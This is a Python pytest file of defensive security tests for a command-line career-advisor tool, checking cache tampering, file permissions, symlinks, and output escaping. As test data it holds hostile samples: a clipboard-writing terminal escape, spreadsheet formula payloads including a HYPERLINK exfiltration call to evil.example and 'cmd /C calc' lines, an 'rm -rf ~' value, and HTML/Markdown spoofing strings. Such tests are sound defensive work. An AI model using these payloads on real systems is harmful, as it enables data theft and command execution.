"""Untrusted input, tried as an attacker would (issue "untrusted input, for real").

Each test is one promise of the README's Security section: the cache can only ever show
what the files say, nothing from data or saved files is spoofed in what people read or
open, bad input is one line and a documented exit code, and the work stays bounded.
Where permissions matter a second user takes part: files are given to another uid with
``chown`` and read by it through ``setpriv`` (the tests run as root in CI; elsewhere
they are skipped).
"""

from __future__ import annotations

import errno
import io
import json
import os
import shutil
import signal
import stat
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest
import yaml

from csadvisor.cli.render.markdown import markdown_text, mermaid_label
from csadvisor.errors import DataError
from csadvisor.storage import cache, catalog, files, folders, history
from test_hostile import (
    RAW_CONTROL,
    Outcome,
    assert_clean,
    base_answers,
    base_roles,
    base_skills,
    make_data,
    run_process,
)

OSC52 = "\x1b]52;c;ZWNobyBwd25lZA==\x07"  # "write this to the clipboard"
OTHER_UID = 54321  # a second user, by number: setpriv needs no account for it
IS_ROOT = hasattr(os, "geteuid") and os.geteuid() == 0
needs_root = pytest.mark.skipif(not IS_ROOT, reason="giving files to another user needs root")
needs_setpriv = pytest.mark.skipif(
    not (IS_ROOT and shutil.which("setpriv")), reason="needs root and setpriv (util-linux)"
)


def run(*args: str, stdin: bytes | None = None, env: dict[str, str] | None = None) -> Outcome:
    """csadvisor in a child process, with the test's own user folders."""
    saved = dict(os.environ)
    try:
        os.environ.update(env or {})
        return run_process(list(args), stdin)
    finally:
        os.environ.clear()
        os.environ.update(saved)


def here(*args: str) -> Outcome:
    """csadvisor in this process (fast), for cases that cannot hang; the same checks as
    ``run``: no raw escape character on either stream."""
    from typer.testing import CliRunner

    from csadvisor.cli.app import app

    result = CliRunner().invoke(app, list(args))
    outcome = Outcome(result.exit_code, result.stdout, result.stderr)
    assert "\x1b" not in outcome.stdout + outcome.stderr, outcome
    return outcome


def data_with(tmp_path: Path, roles: Any = None, skills: Any = None, name: str = "data") -> Path:
    return make_data(
        tmp_path / name,
        roles=roles if roles is not None else base_roles(),
        skills=skills if skills is not None else base_skills(),
        locations=None,
    )


def cache_files() -> list[Path]:
    folder = folders.cache()
    assert folder is not None
    return sorted(folder.glob("catalog-*.marshal")) if folder.is_dir() else []


def low_of(outcome: Outcome) -> int:
    assert outcome.exit_code == 0, outcome
    return int(json.loads(outcome.stdout)[0]["low"])


# =========================================================================== §2 the cache


def test_a_symlinked_data_folder_flipped_between_runs_shows_the_new_release(
    tmp_path: Path,
) -> None:
    """Capistrano-style ``current -> release``: each release shows its own pay, even with
    the same file sizes and times, because the cache key is the bytes that were parsed."""
    a, b = base_roles(), base_roles()
    b["roles"][0]["pay"]["low"] = 34751  # same length: same file size
    rel_a, rel_b = data_with(tmp_path, a, name="release-a"), data_with(tmp_path, b, name="rel-b")
    for name in ("roles.yaml", "skills.yaml"):  # same mtimes too
        st = (rel_a / name).stat()
        os.utime(rel_b / name, ns=(st.st_atime_ns, st.st_mtime_ns))
    current = tmp_path / "current"
    current.symlink_to(rel_a)
    assert low_of(run("--data-dir", str(current), "pay", "agent", "-f", "json")) == 34750
    current.unlink()
    current.symlink_to(rel_b)
    assert low_of(run("--data-dir", str(current), "pay", "agent", "-f", "json")) == 34751
    current.unlink()
    current.symlink_to(rel_a)
    assert low_of(run("--data-dir", str(current), "pay", "agent", "-f", "json")) == 34750


def test_the_cache_key_and_the_parsed_content_come_from_the_same_bytes(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A file swapped between the read and the parse cannot be cached under the first
    file's key: the loader reads each file once and hands those bytes to both."""
    data = data_with(tmp_path)
    source = catalog.resolve_source(data)
    real_read = catalog.read_files
    reads: list[list[bytes]] = []

    def read_then_swap(src: catalog.DataSource) -> list[bytes]:
        contents = real_read(src)
        reads.append(contents)
        other = base_roles()
        other["roles"][0]["pay"]["low"] = 11111
        (data / "roles.yaml").write_text(yaml.safe_dump(other), "utf-8")  # too late
        return contents

    monkeypatch.setattr(catalog, "read_files", read_then_swap)
    first = catalog.load(source)
    assert first.role_by_id["agent"].pay is not None
    assert first.role_by_id["agent"].pay.low == 34750  # what was read, not what is there now
    assert len(reads) == 1
    monkeypatch.setattr(catalog, "read_files", real_read)
    assert catalog.load(source).role_by_id["agent"].pay.low == 11111  # type: ignore[union-attr]


def test_an_edit_with_the_same_size_and_mtime_is_seen(tmp_path: Path) -> None:
    data = data_with(tmp_path)
    roles = data / "roles.yaml"
    assert low_of(run("--data-dir", str(data), "pay", "agent", "-f", "json")) == 34750
    st = roles.stat()
    roles.write_text(roles.read_text("utf-8").replace("34750", "34999"), "utf-8")
    os.utime(roles, ns=(st.st_atime_ns, st.st_mtime_ns))  # as `cp -p` or `touch -r` would
    assert roles.stat().st_size == st.st_size
    assert low_of(run("--data-dir", str(data), "pay", "agent", "-f", "json")) == 34999


def test_after_an_invalid_edit_pay_fails_like_data_validate(tmp_path: Path) -> None:
    data = data_with(tmp_path)
    roles = data / "roles.yaml"
    assert run("--data-dir", str(data), "pay", "agent").exit_code == 0  # cached now
    st = roles.stat()
    roles.write_text(roles.read_text("utf-8").replace("34750", "-3475"), "utf-8")
    os.utime(roles, ns=(st.st_atime_ns, st.st_mtime_ns))
    paid = run("--data-dir", str(data), "pay", "agent")
    validated = run("data", "validate", str(data))
    assert (paid.exit_code, validated.exit_code) == (3, 3)
    assert paid.stdout == ""
    assert "roles[0].pay.low" in paid.stderr


def test_cache_files_are_private_and_another_user_cannot_read_them(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import tempfile

    # A folder the second user can reach (pytest's own are 0700), removed afterwards.
    shared = Path(tempfile.mkdtemp(prefix="csadvisor-shared-"))
    try:
        shared.chmod(0o711)  # traversable by others, nothing more
        monkeypatch.setenv("CSADVISOR_CACHE_DIR", str(shared / "cache"))
        data = data_with(tmp_path)
        assert run("--data-dir", str(data), "pay", "agent").exit_code == 0
        (cached,) = cache_files()
        assert stat.S_IMODE(cached.stat().st_mode) == 0o600
        assert stat.S_IMODE(cached.parent.stat().st_mode) == 0o700
        if not (IS_ROOT and shutil.which("setpriv")):
            return
        readable = shared / "readable.txt"
        readable.write_text("hello\n", "utf-8")
        readable.chmod(0o644)

        def cat(path: Path) -> subprocess.CompletedProcess[bytes]:
            return subprocess.run(
                ["setpriv", f"--reuid={OTHER_UID}", f"--regid={OTHER_UID}", "--clear-groups",
                 "cat", str(path)],
                capture_output=True, timeout=10, check=False,
            )  # fmt: skip

        assert cat(readable).stdout == b"hello\n"  # the second user can read beside it
        denied = cat(cached)
        assert denied.returncode != 0
        assert b"Permission denied" in denied.stderr
    finally:
        shutil.rmtree(shared, ignore_errors=True)


def test_an_old_0755_cache_folder_is_made_private(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """csadvisor's own folder is made 0700; a folder the user named is left as it is."""
    monkeypatch.delenv("CSADVISOR_CACHE_DIR")
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "xdg"))
    folder = folders.cache()
    assert folder == tmp_path / "xdg" / "csadvisor"
    folder.mkdir(parents=True)
    folder.chmod(0o755)
    assert run("--data-dir", str(data_with(tmp_path)), "pay", "agent").exit_code == 0
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
    assert len(cache_files()) == 1
    named = tmp_path / "my-folder"
    named.mkdir(mode=0o755)
    named.chmod(0o755)
    monkeypatch.setenv("CSADVISOR_CACHE_DIR", str(named))
    assert run("--data-dir", str(data_with(tmp_path)), "pay", "agent").exit_code == 0
    assert stat.S_IMODE(named.stat().st_mode) == 0o755
    (cached,) = cache_files()
    assert stat.S_IMODE(cached.stat().st_mode) == 0o600  # the file is private all the same


@pytest.mark.parametrize("umask", [0o022, 0o077, 0o002])
def test_data_init_follows_the_umask(tmp_path: Path, umask: int) -> None:
    target = tmp_path / "ladder"
    old = os.umask(umask)
    try:
        done = subprocess.run(
            [sys.executable, "-m", "csadvisor", "data", "init", str(target)],
            capture_output=True, timeout=30, check=False,
        )  # fmt: skip
    finally:
        os.umask(old)
    assert done.returncode == 0, done.stderr
    for name in ("roles.yaml", "skills.yaml"):
        assert stat.S_IMODE((target / name).stat().st_mode) == 0o666 & ~umask


def _plant(documents: Any, data: Path) -> Path:
    """A cache file with a valid stamp for ``data`` (the stamp is predictable)."""
    import marshal

    source = catalog.resolve_source(data)
    key = cache.key_for(source.directory, catalog.read_files(source))
    assert key is not None
    key.path.parent.mkdir(parents=True, exist_ok=True, mode=0o700)
    key.path.write_bytes(marshal.dumps({"stamp": key.stamp, "documents": documents}))
    key.path.chmod(0o600)
    return key.path


def _fake_pay_documents(data: Path) -> Any:
    """The real documents with fake pay and a clipboard escape in a title."""
    roles_doc, skills_doc = catalog.load_documents(catalog.resolve_source(data))
    roles_doc["roles"][0]["pay"]["low"] = 1_000_000
    roles_doc["roles"][0]["title"] = f"Agent {OSC52}"
    return (roles_doc, skills_doc)


def test_a_planted_cache_with_escapes_and_fake_pay_is_a_miss(tmp_path: Path) -> None:
    data = data_with(tmp_path)
    _plant(_fake_pay_documents(data), data)
    for fmt in ("json", "table", "tsv"):
        out = run("--data-dir", str(data), "pay", "agent", "-f", fmt)  # no raw ESC (checked)
        assert out.exit_code == 0, out
        assert "1000000" not in out.stdout.replace(",", "")
        assert "34750" in out.stdout.replace(",", "")


@pytest.mark.parametrize(
    "damage",
    [
        "not-a-pair", "wrong-types", "unknown-key", "missing-field", "level-9", "negative-pay",
        "four-levels", "bell-in-a-summary", "bad-skill-key", "skill-level-0", "bool-as-int",
        "filler-in-a-title", "line-break-in-a-title", "blank-title",
        "duplicate-id",
    ],
)  # fmt: skip
def test_a_cache_of_the_wrong_shape_is_a_miss(tmp_path: Path, damage: str) -> None:
    """What the cache holds goes through the one check the files go through."""
    from csadvisor.storage.validate import validate
    from csadvisor.storage.yamlreader import Parsed

    data = data_with(tmp_path)
    roles_doc, skills_doc = catalog.load_documents(catalog.resolve_source(data))
    agent = roles_doc["roles"][0]
    documents: Any = (roles_doc, skills_doc)
    if damage == "not-a-pair":
        documents = {"roles": roles_doc}
    elif damage == "wrong-types":
        agent["level"] = "five"
    elif damage == "unknown-key":
        agent["run"] = "rm -rf ~"
    elif damage == "missing-field":
        del agent["title"]
    elif damage == "level-9":
        agent["level"] = 9
    elif damage == "negative-pay":
        agent["pay"]["low"] = -1
    elif damage == "four-levels":
        skills_doc["skills"][0]["levels"].pop()
    elif damage == "bell-in-a-summary":
        agent["summary"] = "Sum\x07"
    elif damage == "bad-skill-key":
        agent["skills"]["Not A Slug"] = 2
    elif damage == "filler-in-a-title":  # printable, yet shows nothing: two titles alike
        agent["title"] = "Support\u3164agent"
    elif damage == "line-break-in-a-title":
        agent["title"] = "Support\nagent"
    elif damage == "skill-level-0":
        agent["skills"]["empathy"] = 0
    elif damage == "blank-title":
        agent["title"] = "   "
    elif damage == "duplicate-id":
        roles_doc["roles"].append(dict(roles_doc["roles"][-1]))
    else:
        agent["skills"]["empathy"] = True
    if isinstance(documents, tuple):  # the check the files go through refuses it too
        with pytest.raises(DataError):
            validate(Parsed(documents[0], None), Parsed(documents[1], None), "r", "s")
    _plant(documents, data)
    out = run("--data-dir", str(data), "roles", "-f", "json")
    assert out.exit_code == 0, out
    assert json.loads(out.stdout)[0]["title"] == "Support agent"


@needs_root
@pytest.mark.parametrize("whose", ["file", "folder"])
def test_a_cache_owned_by_another_user_is_not_used(tmp_path: Path, whose: str) -> None:
    data = data_with(tmp_path)
    planted = _plant(_fake_pay_documents(data), data)
    os.chown(planted if whose == "file" else planted.parent, OTHER_UID, OTHER_UID)
    assert low_of(run("--data-dir", str(data), "pay", "agent", "-f", "json")) == 34750
    if whose == "folder":  # nor is anything written where another user decides
        assert [p.name for p in planted.parent.iterdir()] == [planted.name]


@pytest.mark.parametrize("whose", ["file", "folder"])
def test_a_cache_writable_by_others_is_not_used(tmp_path: Path, whose: str) -> None:
    data = data_with(tmp_path)
    planted = _plant(_fake_pay_documents(data), data)
    (planted if whose == "file" else planted.parent).chmod(0o666 if whose == "file" else 0o777)
    assert low_of(run("--data-dir", str(data), "pay", "agent", "-f", "json")) == 34750


@pytest.mark.parametrize("kind", ["dev-zero", "fifo", "symlink-to-a-good-cache"])
def test_a_cache_file_that_is_not_a_regular_file_is_never_read(tmp_path: Path, kind: str) -> None:
    """A /dev/zero symlink or a FIFO must not hang a command (the run has a timeout and a
    memory limit); a symlink is not followed, even to a cache that would be valid."""
    data = data_with(tmp_path)
    planted = _plant(_fake_pay_documents(data), data)
    if kind == "symlink-to-a-good-cache":
        elsewhere = planted.with_name("elsewhere")
        planted.rename(elsewhere)
        planted.symlink_to(elsewhere)
    else:
        planted.unlink()
        if kind == "fifo":
            os.mkfifo(planted)
        else:
            planted.symlink_to("/dev/zero")
    assert low_of(run("--data-dir", str(data), "pay", "agent", "-f", "json")) == 34750


# =========================================================================== §3 spoofing


FORMULAS = [
    '=HYPERLINK("https://evil.example/?d="&C2,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("formula", FORMULAS)
@pytest.mark.parametrize("field", ["title", "source", "summary", "growth"])
def test_data_text_starting_like_a_formula_is_accepted_and_neutralised_in_csv_and_tsv(
    tmp_path: Path, formula: str, field: str
) -> None:
    """Text is text ("+20% CSAT after coaching"): refused only for control and invisible
    characters; where a spreadsheet would read it, CSV and TSV start it with a quote."""
    roles, skills = base_roles(), base_skills()
    where = {
        "title": (roles["roles"][0], "title", ("role", "agent")),
        "source": (roles["roles"][0]["pay"], "source", ("role", "agent")),
        "summary": (roles["roles"][0], "summary", ("role", "agent")),
        "growth": (skills["skills"][0]["growth"], 0, ("skill", skills["skills"][0]["id"])),
    }
    parent, key, command = where[field]
    parent[key] = formula
    data = data_with(tmp_path, roles, skills)
    assert here("data", "validate", str(data)).exit_code == 0
    for fmt in ("csv", "tsv"):
        out = here("--data-dir", str(data), *command, "-f", fmt)
        assert out.exit_code == 0, out
        if fmt == "csv":
            import csv

            cells = [c for row in csv.reader(io.StringIO(out.stdout)) for c in row]
        else:
            cells = [c for line in out.stdout.splitlines() for c in line.split("\t")]
        assert not any(c.startswith(("=", "+", "-", "@")) for c in cells), cells
        assert field == "growth" or any(formula in c for c in cells)  # growth: not a column


def test_csv_and_tsv_cells_that_begin_like_a_formula_are_neutralised() -> None:
    from io import StringIO

    from csadvisor.cli.output import Format, write_records

    rows = [
        {"a": "=1+2", "b": "+x", "c": "-y", "d": "@z", "e": "\tt", "f": "\rr"},
        {"a": -12.5, "b": -3, "c": "ok", "d": "a=b", "e": "", "f": None},
    ]
    columns = list("abcdef")
    out = StringIO()
    write_records(rows, columns, Format.csv, out)
    import csv

    parsed = list(csv.reader(StringIO(out.getvalue())))
    # A carriage return is also made visible: raw, it would overwrite a terminal line.
    assert parsed[1] == ["'=1+2", "'+x", "'-y", "'@z", "'\tt", "'\\rr"]
    assert parsed[2] == ["-12.5", "-3", "ok", "a=b", "", ""]  # numbers stay numbers
    out = StringIO()
    write_records(rows, columns, Format.tsv, out)
    tsv = [ln.split("\t") for ln in out.getvalue().splitlines()]
    assert tsv[1] == ["'=1+2", "'+x", "-y", "'@z", " t", " r"]  # '-' and letters: kept
    assert tsv[2] == ["-12.5", "-3", "ok", "a=b", "", ""]


def test_text_from_a_saved_file_reaches_csv_neutralised() -> None:
    """A saved title may start with '-' or '=' (text is text): in CSV it is text, not a
    formula."""
    doc = _saved_result()
    doc["readiness"][0]["title"] = "-1+2 lead"
    _write_saved(doc)
    shown = here("history", "show", "latest", "-f", "csv")
    assert shown.exit_code == 0, shown
    assert "'-1+2 lead" in shown.stdout
    assert ",-1+2 lead" not in shown.stdout
    doc["readiness"][0]["title"] = "=HYPERLINK(1)"
    doc["id"] = "20990101-000000-ffffff"
    _write_saved(doc)
    shown = here("history", "show", "20990101", "-f", "csv")
    assert shown.exit_code == 0, shown
    assert "'=HYPERLINK(1)" in shown.stdout
    assert ",=HYPERLINK" not in shown.stdout


@pytest.mark.parametrize(
    ("text", "attack"),
    [
        ("APPROVED BY YOUR MANAGER\n====", "setext heading"),
        ("x\n---", "setext h2 / rule"),
        ("x\n> Manager: I approve a 40% raise.", "quote"),
        ("x\n~~~\nswallowed", "tilde fence"),
        ("x\n```\nswallowed", "backtick fence"),
        ("x\n# Approved", "atx heading"),
        ("x\n- [x] raise approved", "list"),
        ("x\n1. raise approved", "ordered list"),
        ('x <img src=x onerror="alert(1)"> &lt;b&gt;', "html and entities"),
        ("[click](https://evil.example) ![i](x) **b** _i_ `c`", "inline"),
        ("x\u2028# heading", "unicode line separator"),
    ],
)
def test_markdown_text_keeps_every_block_and_inline_construct_literal(
    text: str, attack: str
) -> None:
    import re

    out = markdown_text(text)
    assert not any(brk in out for brk in "\n\r\u2028")
    # At the start of a line too, nothing can open a block.
    assert not re.match(r"(?:[=>#~`]|[-+*] |\d+[.)]|\s{4})", out), out
    # Every special escaped; the only '&' and '#' left open are csadvisor's own references
    # (&#58; in a bare URL, so that GFM links nothing).
    assert not re.search(r"(?<!\\)[<>\[\]`*_#~&!]", re.sub(r"&#\d+;", "", out)), out


@pytest.mark.parametrize("start", ["- item", "+ item", "= rule", "12. item", "3) item", "---"])
def test_markdown_text_escapes_what_opens_a_block_at_the_start(start: str) -> None:
    import re

    assert not re.match(r"(?:[-+=]|\d+[.)])", markdown_text(start)), markdown_text(start)


def _plan_for(tmp_path: Path, growth: str) -> str:
    """The Markdown plan for a catalogue whose growth action is ``growth`` (bypassing
    validation, which refuses line breaks there now: the plan must hold on its own)."""
    from csadvisor.cli.render.plan import result_markdown

    doc = _saved_result()
    doc["top_gaps"] = [
        {"skill": "empathy", "name": "Empathy", "rating": 1, "required": 3,
         "next_level": growth, "growth": [growth]}
    ]  # fmt: skip
    doc["readiness"][0]["reason"] = growth
    from csadvisor.core.result import from_doc

    return result_markdown(from_doc(doc))


def test_the_plan_shows_a_hostile_growth_text_as_one_literal_line(tmp_path: Path) -> None:
    attack = (
        "Practise\nAPPROVED BY YOUR MANAGER\n====\n> Manager: I approve a 40% raise.\n"
        "~~~\n#lt;script#gt;"
    )
    plan = _plan_for(tmp_path, attack)
    lines = plan.splitlines()
    assert not any(ln.startswith(("====", "> ", "~~~", "```")) for ln in lines), plan
    headings = [ln for ln in lines if ln.startswith("#")]
    assert headings
    assert not any("APPROVED" in h or "script" in h for h in headings), headings
    literal = "APPROVED BY YOUR MANAGER ==== \\> Manager: I approve a 40% raise. \\~\\~\\~"
    assert literal + " \\#lt;script\\#gt;" in plan
    assert "\\> Manager" in plan


def test_growth_and_responsibilities_are_one_line_in_data(tmp_path: Path) -> None:
    roles, skills = base_roles(), base_skills()
    roles["roles"][0]["responsibilities"] = ["Answer\n====="]
    skills["skills"][0]["growth"] = ["Practise\n> Manager: approved"]
    out = here("data", "validate", str(data_with(tmp_path, roles, skills)))
    assert out.exit_code == 3
    assert "roles[0].responsibilities[0]: contains a line break" in out.stdout
    assert "skills[0].growth[0]: contains a line break" in out.stdout


def test_mermaid_labels_escape_the_hash_so_entities_stay_text(tmp_path: Path) -> None:
    assert mermaid_label("#lt;a href=x#gt;") == '"#35;lt#59;a href=x#35;gt#59;"'
    roles = base_roles()
    roles["roles"][0]["title"] = 'Agent #lt;a href="https://evil"#gt;go#lt;/a#gt; `x` [y] {z} |w|'
    out = here("--data-dir", str(data_with(tmp_path, roles)), "track", "-f", "mermaid")
    assert out.exit_code == 0, out
    node = next(ln for ln in out.stdout.splitlines() if ln.strip().startswith("agent["))
    label = node.split("[", 1)[1][:-1]
    assert label[0] + label[-1] == '""'
    inner = label[1:-1]
    assert "#lt;" not in inner
    assert "#gt;" not in inner
    for special in '"`[]{}|<>':
        assert special not in inner, (special, inner)


def test_data_path_escapes_a_symlink_target_with_a_terminal_escape(tmp_path: Path) -> None:
    data = data_with(tmp_path)
    evil = tmp_path / f"evil{OSC52}.yaml"
    shutil.move(data / "roles.yaml", evil)
    (data / "roles.yaml").symlink_to(evil)
    for fmt in ("table", "tsv", "csv", "json"):
        out = run("--data-dir", str(data), "data", "path", "-f", fmt)  # raw ESC checked
        assert out.exit_code == 0, out
        assert "\\x1b]52" in out.stdout.replace("\\\\", "\\"), out.stdout


def _saved_result() -> dict[str, Any]:
    """A real result, as ``assess`` saves it."""
    from datetime import datetime, timezone

    from csadvisor.core import assessment
    from csadvisor.core.advisor import Answers

    cat = catalog.load(catalog.resolve_source())
    ratings = {s.id: 3 for s in cat.skills}
    ratings[cat.skills[0].id] = 1
    now = datetime(2026, 1, 2, 3, 4, 5, tzinfo=timezone.utc)
    return assessment.result(Answers("customer-service-specialist", ratings), cat, now=now).doc()


def _write_saved(doc: Any, name: str | None = None) -> Path:
    folder = history.directory()
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / (name or f"{doc['id'] if isinstance(doc, dict) else 'x'}.json")
    path.write_text(json.dumps(doc) if not isinstance(doc, str) else doc, "utf-8")
    return path


@pytest.mark.parametrize(
    "where", ["id", "rating key", "role", "title", "created"], ids=lambda w: w.replace(" ", "-")
)
def test_escapes_in_saved_files_never_reach_the_terminal(where: str) -> None:
    good = _saved_result()
    good["id"] = "20260101-000000-aaaaaa"
    _write_saved(good)
    bad = _saved_result()
    bad["id"] = "20260102-000000-bbbbbb"
    if where == "id":
        bad["id"] = f"x{OSC52}"
    elif where == "rating key":
        bad["ratings"][f"empathy{OSC52}"] = 3
    elif where == "role":
        bad["role"] = f"csr{OSC52}"
    elif where == "title":
        bad["readiness"][0]["title"] = f"Lead{OSC52}"
    else:
        bad["created"] = f"2026{OSC52}"
    _write_saved(bad, "20260102-000000-bbbbbb.json")
    for args in (
        ["history"],
        ["history", "show", "latest"],
        ["history", "diff"],
        ["history", "diff", "20260101", "20260102"],
        ["next"],
    ):
        for fmt in (["-f", "table"], ["-f", "tsv"], ["-f", "json"]):
            out = here(*args, *fmt)  # here() fails on any raw ESC
            assert_clean(out)
            assert "Traceback" not in out.stderr
            assert "20260102-000000-bbbbbb.json" in out.stderr  # reported, then skipped


INVISIBLE = {
    "zero-width space": "\u200b",
    "zero-width joiner": "\u200d",
    "word joiner": "\u2060",
    "bidi isolate": "\u2066",
    "arabic letter mark": "\u061c",
    "tag character": "\U000e0041",
    "line separator": "\u2028",
    "paragraph separator": "\u2029",
    "byte order mark": "\ufeff",
    "soft hyphen": "\u00ad",
    "variation selector": "\ufe0f",
    "hangul filler": "\u3164",
}


@pytest.mark.parametrize("char", list(INVISIBLE.values()), ids=list(INVISIBLE))
@pytest.mark.parametrize("field", ["role title", "alias", "skill name"])
def test_invisible_characters_are_refused_in_names_and_titles(
    tmp_path: Path, char: str, field: str
) -> None:
    roles, skills = base_roles(), base_skills()
    if field == "role title":
        roles["roles"][1]["title"] = f"Support{char} agent"  # looks like roles[0]'s title
        path = "roles[1].title"
    elif field == "alias":
        roles["roles"][0]["aliases"] = [f"Support{char} rep"]
        path = "roles[0].aliases[0]"
    else:
        skills["skills"][0]["name"] = f"Empa{char}thy"
        path = "skills[0].name"
    out = here("data", "validate", str(data_with(tmp_path, roles, skills)))
    assert out.exit_code == 3, out
    line = next(ln for ln in out.stdout.splitlines() if path in ln)
    assert ("invisible character" in line) or ("line break" in line) or ("control" in line)
    assert RAW_CONTROL.search(line) is None
    assert char not in line
    assert f"U+{ord(char):04X}" in line or repr(char)[1:-1] in line


# =========================================================================== §4 exit codes


def _python_startup_seconds() -> float:
    """How long the interpreter takes to start and stop with no program: before that,
    no code of csadvisor's has run (Python's own start-up, up to runpy, is not ours)."""
    best = 1.0
    for _ in range(3):
        t = time.perf_counter()
        subprocess.run([sys.executable, "-c", "import runpy"], check=True)
        best = min(best, time.perf_counter() - t)
    return best


@pytest.mark.slow  # 30 interpreter starts, and its timing wants a machine not busy
def test_ctrl_c_at_any_moment_of_start_up_exits_130_quietly() -> None:
    """SIGINT at 30 moments spread over start-up: never a traceback, exit 130 (or killed
    by the signal itself while Python shuts down, which the shell also reports as 130),
    or the command finished first."""
    start = _python_startup_seconds()
    # The slowest start: no cache. Without pytest-cov's subprocess hook, which would run
    # its own tracer (Python code, interruptible) before csadvisor's first line.
    env = {k: v for k, v in os.environ.items() if not k.startswith("COV_CORE_")}
    env["CSADVISOR_CACHE_DIR"] = ""
    seen: dict[int, int] = {}
    for i in range(30):
        proc = subprocess.Popen(
            [sys.executable, "-m", "csadvisor", "pay", "csr"],
            stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env,
        )  # fmt: skip
        time.sleep(start * 1.5 + i * 0.006)
        proc.send_signal(signal.SIGINT)
        _, err = proc.communicate(timeout=30)
        assert b"Traceback" not in err, (i, err.decode(errors="replace"))
        assert proc.returncode in (0, 130, -signal.SIGINT), (i, proc.returncode, err)
        if proc.returncode == 130:  # output written before the signal may be there
            assert err == b"csadvisor: cancelled\n", err
        seen[proc.returncode] = seen.get(proc.returncode, 0) + 1
    assert seen.get(130, 0) > 0, seen  # the signal did land during start-up


def _roles_with_pay(low: Any, high: Any) -> str:
    text = yaml.safe_dump(base_roles(), sort_keys=False)
    return text.replace("low: 34750", f"low: {low}", 1).replace("high: 47000", f"high: {high}", 1)


@pytest.mark.parametrize(
    ("low", "high"), [("9" * 5000, "47000"), ("9" * 400, "8" * 400), ("34750", "9" * 4400)]
)
def test_huge_integers_in_a_data_file_are_one_line_exit_3(
    tmp_path: Path, low: str, high: str
) -> None:
    data = data_with(tmp_path)
    (data / "roles.yaml").write_text(_roles_with_pay(low, high), "utf-8")
    for args in (["pay", "agent"], ["roles"]):
        out = run("--data-dir", str(data), *args)
        assert out.exit_code == 3, out
        assert out.stdout == ""
        assert out.stderr.count("\n") == 1, out.stderr
        assert out.stderr.startswith(f"csadvisor: {data / 'roles.yaml'}:")
        assert len(out.stderr) < 400
    checked = run("data", "validate", str(data))
    assert checked.exit_code == 3
    assert all(len(ln) < 400 for ln in checked.stdout.splitlines())


@pytest.mark.parametrize("target", ["roles", "answers"])
def test_a_thousand_nested_mapping_keys_are_one_line(tmp_path: Path, target: str) -> None:
    nested = "{ ? " * 1000 + "x" + " }" * 1000
    data = data_with(tmp_path)
    if target == "roles":
        (data / "roles.yaml").write_text(f"roles: {nested}\n", "utf-8")
        out = run("--data-dir", str(data), "roles")
        label = data / "roles.yaml"
    else:
        answers = tmp_path / "answers.yaml"
        answers.write_text(f"skills: {nested}\n", "utf-8")
        out = run("--data-dir", str(data), "assess", "--answers", str(answers), "--no-save")
        label = answers
    assert out.exit_code == 3, out
    assert out.stderr.count("\n") == 1
    assert out.stderr.startswith(f"csadvisor: {label}:")


def test_a_valid_thousand_role_chain_is_walked_without_recursion(tmp_path: Path) -> None:
    count = 1000
    roles = [
        {
            "id": f"r{i}",
            "title": f"Role {i}",
            "level": 1 + i * 5 // count,
            "summary": "One step.",
            "skills": {"empathy": 1},
            **({"next": [f"r{i + 1}"]} if i < count - 1 else {}),
        }
        for i in range(count)
    ]
    data = data_with(tmp_path, {"roles": roles})
    assert run("data", "validate", str(data)).exit_code == 0
    for args in (
        ["track", "-f", "tsv"],
        ["track", "r0", "-f", "json"],
        ["track", "-f", "mermaid"],
        ["track", "-f", "table"],
        ["roles", "-f", "table"],
        ["role", "r0"],
    ):
        out = run("--data-dir", str(data), *args)
        assert out.exit_code == 0, (args, out.stderr[-300:])
        assert "Role 0" in out.stdout or "r0" in out.stdout
    rows = json.loads(run("--data-dir", str(data), "track", "r0", "-f", "json").stdout)
    assert [r["depth"] for r in rows] == list(range(count))


def _damaged(kind: str) -> str:
    doc = _saved_result()
    if kind == "suggestion-x":
        doc["suggestion"] = "x"
    elif kind == "missing-field":
        del doc["readiness"]
    elif kind == "huge-number":
        version = f'"schema_version": {doc["schema_version"]}'
        return json.dumps(doc).replace(version, '"schema_version": ' + "9" * 5000)
    elif kind == "deep-nesting":
        return '{"a": ' * 100_000 + "1" + "}" * 100_000
    else:
        doc["ratings"][next(iter(doc["ratings"]))] = {"r99": 99, "r0": 0, "r-3": -3}[kind]
    return json.dumps(doc)


DAMAGE = ["suggestion-x", "missing-field", "huge-number", "deep-nesting", "r99", "r0", "r-3"]


@pytest.mark.parametrize("kind", DAMAGE)
def test_damaged_saved_assessments_are_reported_and_skipped(kind: str, tmp_path: Path) -> None:
    good = _saved_result()
    good["id"] = "20260101-000000-aaaaaa"
    _write_saved(good)
    damaged = _write_saved(_damaged(kind), "20260105-000000-dddddd.json")
    before = damaged.read_bytes()
    for args in (
        ["history"],
        ["history", "show", "latest"],
        ["history", "diff", "20260101", "latest"],
        ["next"],
    ):
        out = here(*args, "-f", "json")
        assert out.exit_code == 0 or (args[1:2] == ["diff"] and out.exit_code == 2), (args, out)
        assert_clean(out)
        warning = [ln for ln in out.stderr.splitlines() if str(damaged) in ln]
        assert len(warning) == 1, out.stderr
        assert "skipping" in warning[0]
        assert len(warning[0]) < 600
    alone = here("next", "--assessment", str(damaged))
    assert alone.exit_code == 3, alone
    assert alone.stdout == ""
    assert alone.stderr.count("\n") == 1
    assert alone.stderr.startswith(f"csadvisor: {damaged}")
    assert damaged.read_bytes() == before  # never changed


@pytest.mark.parametrize("args", [["roles", "-f", "tsv"], ["roles", "-f", "table"], ["--help"]])
def test_a_full_disk_is_one_line_and_exit_74(args: list[str]) -> None:
    with open("/dev/full", "wb") as full:
        done = subprocess.run(
            [sys.executable, "-m", "csadvisor", *args],
            stdout=full, stderr=subprocess.PIPE, timeout=30, check=False,
        )  # fmt: skip
    assert done.returncode == 74, done.stderr
    assert done.stderr.decode() == "csadvisor: cannot write output (No space left on device)\n"


def test_a_closed_stdout_is_one_line_and_exit_74() -> None:
    done = subprocess.run(
        [sys.executable, "-m", "csadvisor", "roles", "-f", "tsv"],
